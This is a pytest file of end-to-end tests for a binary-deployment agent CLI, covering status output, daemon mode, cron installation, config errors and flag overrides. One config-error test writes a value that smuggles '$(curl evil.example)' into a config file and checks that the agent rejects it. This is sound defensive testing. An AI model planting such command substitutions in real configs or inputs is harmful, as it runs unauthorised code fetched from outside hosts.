"""status, daemon, install-cron, config errors and log formats, driven as a user would."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.agent import AGENT, Agent, program
from tests.support.procs import Service, wait_until
from tests.support.server import BinManager
from tests.support.supervisor import Supervisord


def test_status_shows_installed_latest_result_and_rollback(
    bin_manager: BinManager, supervisord: Supervisord, agent: Agent
) -> None:
    sha1 = bin_manager.publish("app", program("1"))
    agent.write_manifest("app")
    supervisord.add_program("app", agent.binary("app"))
    assert agent.run("--log-format", "json").returncode == 0
    sha2 = bin_manager.publish("app", program("2"))
    assert agent.run("--log-format", "json").returncode == 0
    status = agent.run(command="status")
    assert status.returncode == 0, status.stderr
    tick, header, row = status.stdout.splitlines()
    assert tick.startswith("last tick: ")
    assert tick.endswith(" ago), exit 0: ok")
    assert header.split()[:3] == ["BINARY", "SERVICE", "INSTALLED"]
    assert row.split() == [
        "app", "app", sha2[:12], sha2[:12], "ok", f"({sha2[:12]})", sha1[:12], "-"
    ]  # fmt: skip
    records = [json.loads(line) for line in agent.log().splitlines()]
    upgraded = [r for r in records if r["message"] == "upgraded and healthy"]
    assert [(r["bin"], r["sha"]) for r in upgraded] == [("app", sha1[:12]), ("app", sha2[:12])]


def test_daemon_ticks_until_stopped(
    bin_manager: BinManager, supervisord: Supervisord, agent: Agent, tmp_path: Path
) -> None:
    agent.write_manifest("app")
    supervisord.add_program("app", agent.binary("app"))
    daemon = Service(
        [str(AGENT), "daemon", "--interval", "1"], tmp_path / "daemon.log", env=agent.env
    ).start()
    try:
        sha = bin_manager.publish("app", program("1"))
        wait_until(lambda: agent.installed_sha("app") == sha, 60, "daemon installs app")
        supervisord.wait_running("app")
    finally:
        daemon.stop()
    assert daemon.proc is not None
    assert daemon.proc.returncode == 0


@pytest.mark.host_only
def test_install_cron_writes_the_run_line(agent: Agent, tmp_path: Path) -> None:
    target = tmp_path / "cron.d" / "ansible-proxy"
    result = agent.run("--path", str(target), command="install-cron")
    assert result.returncode == 0, result.stderr
    text = target.read_text()
    assert f"* * * * * root {AGENT.resolve()} run" in text
    assert target.stat().st_mode & 0o777 == 0o644


def test_config_problems_are_one_line_and_exit_2(agent: Agent) -> None:
    agent.config.write_text("# no API here\nexport BIN_DIR=/usr/local/bin\n")
    missing = agent.run()
    assert missing.returncode == 2
    assert missing.stderr == (
        "ansible-proxy: BIN_MANAGER_API is not set (config file, environment or flag)\n"
    )
    agent.config.write_text('export BIN_MANAGER_API="$(curl evil.example)"\n')
    injected = agent.run()
    assert injected.returncode == 2
    assert "command substitution is not allowed" in injected.stderr
    assert str(agent.config) in injected.stderr
    absent = agent.run(ANSIBLE_PROXY_CONFIG=str(agent.root / "missing"))
    assert absent.returncode == 2
    assert "no such file" in absent.stderr


def test_flags_override_env_and_insecure_is_warned(
    bin_manager: BinManager, supervisord: Supervisord, agent: Agent
) -> None:
    sha = bin_manager.publish("app", program("1"))
    agent.write_manifest("app")
    supervisord.add_program("app", agent.binary("app"))
    result = agent.run(
        "--bin-manager-api", bin_manager.api, BIN_MANAGER_API="http://127.0.0.1:9/nothing",
        INSECURE_SKIP_VERIFY="1",
    )  # fmt: skip
    assert result.returncode == 0, agent.debug(result)
    assert agent.installed_sha("app") == sha
    assert "INSECURE_SKIP_VERIFY=1" in agent.log()


def test_unwritable_log_file_is_a_config_error(agent: Agent, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    result = agent.run(LOG_FILE=str(blocker / "sub" / "agent.log"))
    assert result.returncode == 2
    assert "LOG_FILE" in result.stderr
